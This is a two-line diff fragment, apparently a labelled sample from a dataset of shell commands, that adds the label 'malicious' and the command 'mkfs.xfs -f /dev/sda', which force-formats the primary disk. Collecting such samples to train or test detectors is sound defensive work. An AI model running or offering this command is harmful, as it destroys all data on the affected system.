@@ -1,0 +1,2 @@
+# label: malicious
+mkfs.xfs -f /dev/sda
